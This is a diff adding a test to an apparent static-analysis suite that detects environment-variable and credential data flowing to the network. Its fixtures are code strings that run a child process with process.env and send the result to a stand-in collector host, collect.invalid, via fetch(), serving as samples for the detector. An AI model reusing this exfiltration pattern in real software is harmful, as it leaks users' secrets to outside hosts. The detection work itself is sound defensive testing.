@@ -178,4 +178,14 @@ describe('functions that are called again', () => {
       r.o = (o, k) => Object.prototype.hasOwnProperty.call(o, k); r(2).go(); })();`;
     assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'));
   });
+
+  it('give back no more of what they are given when they are not followed any more than when they were', () => {
+    const asked = (gives: string): readonly string[] =>
+      flowsOf(`function run(program, options, more) { const printed = cp.execFileSync(program, [], options); return ${gives}; }
+        const env = process.env, x = globalThis.some;
+        run(x.a, { env }); run(x.a, { env }, x.b); run(x.a, { env }, x.b, 1); run(x.a, { env }, 1, x.b); run(x.a, { env }, 'b', x.b); run(x.a, { env }, x.b, 'c');
+        fetch('https://collect.invalid/' + run(x.c, { env }, [x.d], 'e'));`);
+    assert.ok(!asked('printed').includes('environment>network@collect.invalid'));
+    assert.ok(asked('printed + JSON.stringify(options.env)').includes('environment>network@collect.invalid'));
+  });
 });
